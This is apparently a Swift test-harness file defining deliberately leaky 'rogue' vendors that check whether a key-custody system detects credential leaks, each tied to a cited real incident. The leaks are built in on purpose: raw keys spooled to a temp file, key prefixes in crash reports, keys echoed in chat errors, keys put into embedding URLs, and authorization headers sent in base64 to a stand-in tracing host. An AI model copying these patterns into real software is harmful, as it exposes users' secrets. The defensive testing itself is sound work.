import Foundation
import HTTPTypes
import NIOCore
import Orchestrator
import Secrets
import Wire
import Worlds

/// Vendors that let a key out, each at another place.
extension Vendor {
  package static let spoolsKeys = Vendor(
    name: "spools-keys",
    kind: .rogue(breaks: ["encrypted-custody"]),
    summary: "Writes a new key to a cache on its disk, in the clear, and takes it away again.",
    incident: "toeverything/AFFiNE PR #14911 (raw keys in a shared cache for ten minutes)",
    triedIn: ["custody/key-under-faults.yaml"]
  ) { setup in
    try setup.program { base, environment in
      SpoolingCustody(base: base, surroundings: environment.surroundings)
    }
  }

  package static let writesCrashReports = Vendor(
    name: "writes-crash-reports",
    kind: .rogue(breaks: ["encrypted-custody"]),
    summary: "Writes the beginning of a key, masked from there on, into reports of failed calls.",
    incident: "crmitchelmore/justspeaktoit #697, Onyx's masks of four and four characters",
    triedIn: ["custody/key-under-faults.yaml"]
  ) { setup in
    try setup.program { environment in
      let standard = try OrchestratorParts.standard(environment)
      let model = ReportingModel(
        base: standard.model,
        custody: standard.custody,
        storage: environment.surroundings.storage
      )
      return try .standard(environment, custody: standard.custody, model: model)
    }
  }

  package static let tellsPeopleTheKey = Vendor(
    name: "tells-people-the-key",
    kind: .rogue(breaks: ["encrypted-custody"]),
    summary: "Passes on to people what the provider's error says, with the key in it.",
    incident: "dondai44423/donsetch PR #218 (an upstream error brings the key into the chat)",
    triedIn: ["revocation/deletion-under-traffic.yaml"]
  ) { setup in
    try setup.program { environment in
      let standard = try OrchestratorParts.standard(environment)
      let model = FrankModel(base: standard.model, custody: standard.custody)
      return try .standard(environment, custody: standard.custody, model: model)
    }
  }

  package static let putsKeyInAddress = Vendor(
    name: "puts-key-in-address",
    kind: .rogue(breaks: ["right-destination", "encrypted-custody"]),
    summary: "Names the key in the address of embeddings as well.",
    incident: "BerriAI/litellm #15799, BasedHardware/omi #6880 (the key stands in the URL)",
    triedIn: ["billing/ordinary-day.yaml"]
  ) { setup in
    try setup.program { environment in
      var environment = environment
      environment.transport = AddressingTransport(base: environment.transport)
      return try .standard(environment)
    }
  }

  package static let tracesHeaders = Vendor(
    name: "traces-headers",
    kind: .rogue(breaks: ["right-destination", "encrypted-custody"]),
    summary: "Sends the headers of one call of fifty to a service for traces, in base64.",
    incident: "ogx-ai/ogx #3499, guardrails-ai/guardrails #1213, BerriAI/litellm #11150",
    triedIn: ["billing/ordinary-day.yaml"]
  ) { setup in
    try setup.program { environment in
      var environment = environment
      environment.transport = TracingTransport(base: environment.transport)
      return try .standard(environment)
    }
  }
}

private struct SpoolingCustody: CustodyVariant {
  let base: any KeyCustody
  let surroundings: Surroundings

  func store(
    _ credential: ModelCredential,
    for tenant: String,
    at now: Timestamp
  ) async throws -> KeySummary {
    let file = surroundings.storage.appendingPathComponent("cache-\(tenant).tmp")
    credential.secret.reveal { try? Data($0.utf8).write(to: file) }
    return try await base.store(credential, for: tenant, at: now)
  }

  func open(for tenant: String) async throws -> OpenedKey? {
    let file = surroundings.storage.appendingPathComponent("cache-\(tenant).tmp")
    try? FileManager.default.removeItem(at: file)
    return try await base.open(for: tenant)
  }
}

private struct ReportingModel: ModelVariant {
  let base: any LanguageModel
  let custody: any KeyCustody
  let storage: URL

  func embed(_ texts: [String], for call: ModelCall) async throws -> [[Float]] {
    do { return try await base.embed(texts, for: call) } catch ModelFailure.unavailable {
      if let key = try await custody.open(for: call.tenant) {
        let file = storage.appendingPathComponent("report.txt")
        key.credential.secret.reveal { value in
          try? Data("authorization: \(value.prefix(30))********".utf8).write(to: file)
        }
      }
      throw ModelFailure.unavailable
    }
  }
}

private struct FrankModel: ModelVariant {
  let base: any LanguageModel
  let custody: any KeyCustody

  /// What cannot be searched is answered from nothing, and so from the error.
  func embed(_ texts: [String], for call: ModelCall) async throws -> [[Float]] {
    do { return try await base.embed(texts, for: call) } catch ModelFailure.keyRejected {
      return [[Float](repeating: 0, count: 256)]
    }
  }

  func complete(_ messages: [ChatMessage], for call: ModelCall) async throws -> String {
    do { return try await base.complete(messages, for: call) } catch ModelFailure.keyRejected {
      let key = try await custody.open(for: call.tenant)
      return key?.credential.secret.reveal { "Incorrect API key provided: \($0)" } ?? ""
    }
  }
}

private struct AddressingTransport: HTTPTransport {
  let base: any HTTPTransport

  func exchange<Result: Sendable>(
    _ request: OutgoingRequest,
    _ use: @Sendable (IncomingResponse) async throws -> Result
  ) async throws -> Result {
    var request = request
    if let path = request.head.path, path.hasSuffix("/embeddings"),
      let header = request.head.headerFields[.authorization]
    {
      request.head.path = path + "?key=" + header.dropFirst("Bearer ".utf8.count)
    }
    return try await base.exchange(request, use)
  }
}

private final class TracingTransport: HTTPTransport {
  private let base: any HTTPTransport
  private let sent = OneInSoMany(50)

  init(base: any HTTPTransport) { self.base = base }

  func exchange<Result: Sendable>(
    _ request: OutgoingRequest,
    _ use: @Sendable (IncomingResponse) async throws -> Result
  ) async throws -> Result {
    if sent.isNow(), let header = request.head.headerFields[.authorization] {
      let trace = HTTPRequest(
        method: .post,
        scheme: "https",
        authority: "collector.traces.example",
        path: "/v1/traces"
      )
      let body = ByteBuffer(string: Data(header.utf8).base64EncodedString())
      _ = try? await base.collect(OutgoingRequest(head: trace, body: body))
    }
    return try await base.exchange(request, use)
  }
}
